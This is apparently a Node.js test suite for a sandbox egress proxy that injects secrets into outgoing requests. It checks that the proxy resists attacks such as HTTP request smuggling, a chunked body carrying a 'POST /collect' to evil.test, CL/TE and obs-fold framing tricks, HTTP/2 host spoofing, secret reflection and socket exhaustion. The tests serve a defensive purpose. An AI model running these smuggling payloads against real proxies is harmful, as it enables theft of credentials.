/**
 * Attacks on secret injection from inside a sandbox, at the proxy itself (session 23's
 * attacker's review; docs/security.md, "Secret injection at the egress proxy"). The upstream
 * is a raw TCP/TLS server that records the bytes it gets, so what an upstream parser would
 * see (a second, smuggled request) is visible as it is.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { connect as h2connect } from 'node:http2';
import { connect as netConnect, createServer as netServer, type Server, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { type ConnectionOptions, connect as tlsConnect, createServer as tlsServer } from 'node:tls';
import type { SecretInjection } from '../../driver.js';
import { EgressCa } from './ca.js';
import { EgressProxy } from './egress-proxy.js';

const UPSTREAM = '127.0.79.3';
const SANDBOX = '127.0.2.9';
const PH = 'sbx-secret-0000000000000000000000a1';
/** Printable ASCII, as a secret's value may be: spaces included (a passphrase, "Bearer x"). */
const VALUE = 'sk live VALUE 1234567890';

describe('secret injection: attacks on the proxy', () => {
  const tmp = mkdtempSync(join(tmpdir(), 'intercept-attacks-'));
  const ca = EgressCa.open(join(tmp, 'ca'));
  const upCa = EgressCa.open(join(tmp, 'up-ca'));
  /** What the upstream received, connection by connection (latin1). */
  const got: string[] = [];
  let rules: SecretInjection[] = [];
  const servers: Server[] = [];
  let proxy: EgressProxy;
  let ports: { http: number; tls: number };
  const answers: string[] = [];

  /**
   * A raw upstream: records bytes; one answer per connection, after the first head. It
   * reflects the request's Authorization where no echo service of the tests does: in the
   * status line's reason phrase, and (`X-Reflect-Name: 1`) in a header's name.
   */
  const onUpstream = (s: Socket) => {
    const i = got.push('') - 1;
    let answered = 0;
    s.on('data', (d: Buffer) => {
      got[i] += d.toString('latin1');
      // Each request head that starts where a message may (the start, or right after a
      // head's end), as a naive server parses a kept-alive connection: answered in turn.
      const heads = [...got[i].matchAll(/(?<=^|\r\n\r\n)[A-Z]+ \S+ HTTP\/1\.1\r\n[\s\S]*?\r\n\r\n/g)].map((m) => m[0]);
      for (; answered < heads.length; answered++) {
        const head = heads[answered];
        if (head.startsWith('GET /hold ')) continue; // never answered: the connection stays
        const auth = /\r\nAuthorization: ([^\r]*)\r\n/i.exec(head)?.[1] ?? 'OK';
        const named = /\r\nX-Reflect-Name: 1\r\n/i.test(head) ? `x-${auth.split(' ').pop()}: 1\r\n` : '';
        // X-Reflect-Escaped: as a PHP API's JSON (`/` escaped) and a URL would carry it.
        const body = /\r\nX-Reflect-Escaped: 1\r\n/i.test(head)
          ? `{"auth":${JSON.stringify(auth).replace(/\//g, '\\/')},"next":"/x?t=${encodeURIComponent(auth)}","form":"${encodeURIComponent(auth).replace(/%20/g, '+')}"}`
          : 'ok';
        s.write(`HTTP/1.1 200 ${auth}\r\n${named}content-length: ${body.length}\r\n\r\n${body}`);
      }
    });
    s.on('error', () => {});
  };

  before(async () => {
    const leaf = upCa.leaf('api.test');
    const plain = netServer(onUpstream);
    const tls = tlsServer({ cert: leaf.cert, key: leaf.key }, onUpstream);
    for (const s of [plain, tls]) {
      await new Promise<void>((r) => s.listen(0, UPSTREAM, () => r()));
      servers.push(s);
    }
    proxy = new EgressProxy({
      gateway: '127.0.0.1',
      ca,
      extraCa: [upCa.certPem],
      upstreamPorts: {
        http: (plain.address() as { port: number }).port,
        tls: (tls.address() as { port: number }).port,
      },
      policy: {
        isRuled: (a) => a === SANDBOX,
        allowsName: () => true,
        addressesFor: async () => [UPSTREAM],
        secretsFor: (_a, n) => rules.filter((r) => r.domains.includes(n)),
      },
    });
    ports = await proxy.listen();
  });
  after(() => {
    proxy.close();
    for (const s of servers) s.close();
    rmSync(tmp, { recursive: true, force: true });
    for (const a of answers) assert.ok(!a.includes(VALUE), `an answer carried the value: ${a}`);
  });

  const bearer: SecretInjection = {
    secret: 'API',
    domains: ['api.test'],
    header: 'Authorization',
    format: 'Bearer {value}',
    placeholder: PH,
    value: VALUE,
  };
  const query: SecretInjection = {
    secret: 'Q',
    domains: ['api.test'],
    placeholder: PH,
    value: VALUE,
    format: '{value}',
  };

  /**
   * Raw bytes to the proxy's HTTP side as the sandbox (each head says `Connection: close`, or
   * is one the parser refuses: the proxy closes); resolves all it answered once it closed.
   */
  const raw = (bytes: string) =>
    new Promise<string>((res) => {
      const s = netConnect({ host: '127.0.0.1', port: ports.http, localAddress: SANDBOX });
      // A bound: a proxy that neither answers nor closes fails the test (empty answer).
      s.setTimeout(5000, () => s.destroy());
      let out = '';
      s.on('data', (d: Buffer) => {
        out += d.toString('latin1');
      });
      s.on('error', () => {});
      s.on('close', () => {
        answers.push(out);
        res(out);
      });
      s.write(bytes);
    });

  /** An HTTP/2 session over TLS to the proxy (at `port`) as the sandbox. */
  const h2session = (port = ports.tls) =>
    h2connect('https://api.test', {
      createConnection: () =>
        tlsConnect({
          host: '127.0.0.1',
          port,
          localAddress: SANDBOX,
          servername: 'api.test',
          ca: ca.certPem,
          ALPNProtocols: ['h2'],
        } as ConnectionOptions),
    });

  /** One HTTP/2 request over TLS as the sandbox; resolves the status (0: reset) and body. */
  const h2 = (headers: Record<string, string>, body?: string) =>
    new Promise<{ status: number; body: string }>((res) => {
      const session = h2connect('https://api.test', {
        createConnection: () =>
          tlsConnect({
            host: '127.0.0.1',
            port: ports.tls,
            localAddress: SANDBOX,
            servername: 'api.test',
            ca: ca.certPem,
            ALPNProtocols: ['h2'],
          } as ConnectionOptions),
      });
      session.on('error', () => {});
      const st = session.request({ ':authority': 'api.test', ...headers }, { endStream: body === undefined });
      let status = 0;
      let out = '';
      st.on('response', (h) => {
        status = Number(h[':status']);
      });
      st.on('data', (d: Buffer) => {
        out += d.toString('latin1');
      });
      st.on('error', () => {});
      st.on('close', () => {
        session.close();
        answers.push(out);
        res({ status, body: out });
      });
      if (body !== undefined) st.end(body);
    });

  it('a value the request target cannot hold (a space) put there: 400, nothing sent, the proxy lives on', async () => {
    rules = [query];
    got.length = 0;
    const r = await raw(`GET /v1?key=${PH} HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n`);
    assert.match(r, /^HTTP\/1.1 400 /);
    assert.match(r, /cannot be sent upstream/);
    assert.equal(got.length, 0, 'nothing reached the upstream');
    // The proxy still serves: the value in a header is fine.
    const ok = await raw(`GET /v1 HTTP/1.1\r\nHost: api.test\r\nX-Key: ${PH}\r\nConnection: close\r\n\r\n`);
    assert.match(ok, /^HTTP\/1.1 200 /);
    assert.match(got[0], new RegExp(`\r\nX-Key: ${VALUE}\r\n`));
  });

  it('a body on a GET (HTTP/1.1 chunked, HTTP/2 DATA) goes upstream framed: no second request is smuggled', async () => {
    rules = [bearer];
    // Sent bare after the GET's head, this body is a request of its own to the upstream,
    // for another name it serves; on a kept-alive upstream connection the next injected
    // request (its Authorization with the value) becomes its body, delivered to that name.
    const inner = 'POST /collect HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 120\r\n\r\n';
    const smuggled = /(?<=^|\r\n\r\n)POST \/collect /;
    got.length = 0;
    const r = await raw(
      `GET /a HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n${inner.length.toString(16)}\r\n${inner}\r\n0\r\n\r\n` +
        'GET /next HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n',
    );
    assert.equal((r.match(/HTTP\/1.1 200 /g) ?? []).length, 2, r);
    const viaH2 = await h2({ ':path': '/b' }, inner);
    assert.equal(viaH2.status, 200);
    assert.ok(got.length >= 2);
    for (const g of got) assert.ok(!smuggled.test(g), `smuggled: ${JSON.stringify(g)}`);
    // The body is chunked upstream: its bytes never start a request of their own.
    const framed = got.filter((g) => g.includes(`${inner.length.toString(16)}\r\n${inner}\r\n0\r\n\r\n`));
    assert.equal(framed.length, 2, JSON.stringify(got));
    for (const g of framed) assert.match(g, /\r\ntransfer-encoding: chunked\r\n/i);
  });

  it('a header rule puts the value in its header only: the placeholder in the target or another header stays', async () => {
    // Else a sandbox writes the value where the allowed service keeps it as data, readable
    // by others: `POST /api/chat.postMessage?channel=public&text=$PLACEHOLDER` to a chat API
    // whose token the rule puts in Authorization posts the token itself.
    rules = [bearer];
    got.length = 0;
    const r = await raw(
      `POST /api/chat.postMessage?channel=C1&text=${PH} HTTP/1.1\r\nHost: api.test\r\nX-Title: ${PH}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`,
    );
    assert.match(r, /^HTTP\/1.1 200 /);
    assert.equal(got.length, 1);
    assert.match(got[0], new RegExp(`^POST /api/chat.postMessage\\?channel=C1&text=${PH} `));
    assert.match(got[0], new RegExp(`\r\nX-Title: ${PH}\r\n`));
    assert.match(got[0], new RegExp(`\r\nAuthorization: Bearer ${VALUE}\r\n`));
    assert.equal(got[0].split(VALUE).length, 2, 'the value once, in its header');
    // A rule without header is the one that replaces the placeholder in the head.
    rules = [{ ...query, value: 'no-space-value' }];
    got.length = 0;
    await raw(`GET /v1?key=${PH} HTTP/1.1\r\nHost: api.test\r\nX-Key: ${PH}\r\nConnection: close\r\n\r\n`);
    assert.match(got[0], /^GET \/v1\?key=no-space-value /);
    assert.match(got[0], /\r\nX-Key: no-space-value\r\n/);
  });

  it('an upstream reflecting the value in the reason phrase or a header name: scrubbed too', async () => {
    rules = [bearer];
    got.length = 0;
    const r = await raw('GET /a HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n');
    assert.match(r, new RegExp(`^HTTP/1.1 200 Bearer ${PH}\r\n`));
    assert.match(got[0], new RegExp(`\r\nAuthorization: Bearer ${VALUE}\r\n`));
    // A header's name (which comes lowercased): a token-like value.
    const token = 'Tok-ABC-123';
    rules = [{ ...bearer, value: token }];
    const n = await raw('GET /a HTTP/1.1\r\nHost: api.test\r\nX-Reflect-Name: 1\r\nConnection: close\r\n\r\n');
    assert.match(n, /^HTTP\/1.1 200 /);
    assert.ok(!n.toLowerCase().includes(token.toLowerCase()), n);
  });

  it("HTTP/2 streams' upstream connections count in the sandbox's share of the proxy", async () => {
    // Each stream of a terminated HTTP/2 connection is an upstream connection of its own: not
    // counted, 512 connections x 8 streams let one sandbox hold 4608 of the proxy's 8192
    // sockets, two of them every sandbox's egress.
    rules = [bearer];
    got.length = 0;
    const small = new EgressProxy({
      gateway: '127.0.0.1',
      ca,
      extraCa: [upCa.certPem],
      maxPerSandbox: 3,
      upstreamPorts: {
        http: (servers[0].address() as { port: number }).port,
        tls: (servers[1].address() as { port: number }).port,
      },
      policy: {
        isRuled: (a) => a === SANDBOX,
        allowsName: () => true,
        addressesFor: async () => [UPSTREAM],
        secretsFor: () => rules,
      },
    });
    const port = (await small.listen()).tls;
    const session = h2session(port);
    session.on('error', () => {});
    try {
      const statuses: number[] = [];
      const streams = Array.from({ length: 6 }, () => {
        const st = session.request({ ':authority': 'api.test', ':path': '/hold' });
        st.on('response', (h) => statuses.push(Number(h[':status'])));
        st.on('error', () => {});
        st.resume();
        return st;
      });
      // Those beyond the share are answered 503 at once; the others wait on the upstream.
      const held = () => got.filter((g) => g.startsWith('GET /hold ')).length;
      for (let i = 0; i < 500 && (statuses.length < 4 || held() < 2); i++) await new Promise((r) => setTimeout(r, 10));
      assert.deepEqual(statuses, [503, 503, 503, 503]);
      assert.equal(held(), 2, 'the session and two upstream connections');
      for (const st of streams) st.close();
      session.destroy();
      // Closed, they give their share back (released as their upstream connections close).
      let status = 0;
      for (let i = 0; i < 100 && status !== 200; i++) {
        const again = h2session(port);
        again.on('error', () => {});
        status = await new Promise<number>((res) => {
          const st = again.request({ ':authority': 'api.test', ':path': '/after' });
          st.on('response', (h) => res(Number(h[':status'])));
          st.on('error', () => res(0));
          st.resume();
        });
        again.destroy();
        if (status !== 200) await new Promise((r) => setTimeout(r, 20));
      }
      assert.equal(status, 200);
    } finally {
      session.destroy();
      small.close();
    }
  });

  it('an upstream reflecting the value escaped (JSON with `\\/`, URL-encoded): scrubbed too', async () => {
    // Keys of base64 alphabets hold `/` and `+` (an AWS secret key does).
    const keyish = 'wJalr/XUtn+FEMI"K7MDENG\\bPxRfiCY';
    rules = [{ ...bearer, value: keyish }];
    got.length = 0;
    const r = await raw('GET /a HTTP/1.1\r\nHost: api.test\r\nX-Reflect-Escaped: 1\r\nConnection: close\r\n\r\n');
    assert.ok(got[0].includes(`Bearer ${keyish}`));
    // The answer is chunked (its length went with the scrubbing): the chunks' data.
    let rest = r.slice(r.indexOf('\r\n\r\n') + 4);
    let body = '';
    for (let n = 0; n < 100 && rest.length; n++) {
      const size = Number.parseInt(rest, 16);
      if (!size) break;
      const at = rest.indexOf('\r\n') + 2;
      body += rest.slice(at, at + size);
      rest = rest.slice(at + size + 2);
    }
    const forms = [
      keyish,
      JSON.stringify(keyish).slice(1, -1),
      JSON.stringify(keyish).slice(1, -1).replace(/\//g, '\\/'),
      encodeURIComponent(keyish),
    ];
    for (const f of forms) assert.ok(!body.includes(f), `${f} in ${body}`);
    assert.equal(body.split(PH).length, 4, body);
  });

  it('ambiguous framing (two Content-Lengths, CL and TE, an unknown TE, obs-fold, bare LF, h2c prior knowledge, HTTP/2 host beside :authority): refused or ignored', async () => {
    rules = [bearer];
    got.length = 0;
    const heads = [
      'POST /a HTTP/1.1\r\nHost: api.test\r\nContent-Length: 3\r\nContent-Length: 40\r\n\r\nabc',
      'POST /a HTTP/1.1\r\nHost: api.test\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
      'POST /a HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: xchunked\r\n\r\nGET /smuggled HTTP/1.1\r\n\r\n',
      'GET /a HTTP/1.1\r\nHost: api.test\r\nX-A: b\r\n Host: evil.test\r\nConnection: close\r\n\r\n',
    ];
    for (const h of heads) {
      const r = await raw(h);
      assert.ok(r === '' || /^HTTP\/1.1 4\d\d /.test(r), r);
    }
    // Bare LF: as the first request's head the proxy waits for its CRLF end (and closes after
    // 10 s), so it comes second on a kept-alive connection: the parser refuses it (and drops
    // the connection, the first request's answer with it); it never goes upstream.
    const lf = await raw(
      'GET /first HTTP/1.1\r\nHost: api.test\r\n\r\nGET /lf HTTP/1.1\nHost: api.test\nX-A: b\nConnection: close\n\n',
    );
    assert.ok((lf.match(/HTTP\/1.1 200 /g) ?? []).length <= 1, lf);
    assert.ok(!got.some((g) => g.includes('/lf')), JSON.stringify(got));
    got.length = 0;
    // HTTP/2 with prior knowledge on port 80 (h2c): no Host to read, refused before any parsing.
    assert.match(await raw('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), /^HTTP\/1.1 403 /);
    // HTTP/2: a `host` header beside `:authority` naming another host: the authority is
    // checked and goes upstream as Host; the sandbox's `host` does not.
    const hosted = await h2({ ':path': '/hosted', host: 'evil.test' });
    assert.equal(hosted.status, 200);
    assert.equal(got.length, 1);
    assert.match(got[0], /^GET \/hosted HTTP\/1.1\r\nhost: api.test\r\n/);
    assert.ok(!got[0].includes('evil.test'), got[0]);
    got.length = 0;
    // HTTP/2: a content-length the DATA does not match is a stream error.
    const h = await h2({ ':path': '/a', ':method': 'POST', 'content-length': '3' }, `abc${'GET / HTTP/1.1\r\n\r\n'}`);
    assert.equal(h.status, 0);
    // (Node's parser refuses an unknown Transfer-Encoding at its first body byte, after the
    // request began: an upstream connection may have opened, but no byte went on it.)
    assert.deepEqual(
      got.filter((g) => g !== ''),
      [],
    );
  });
});
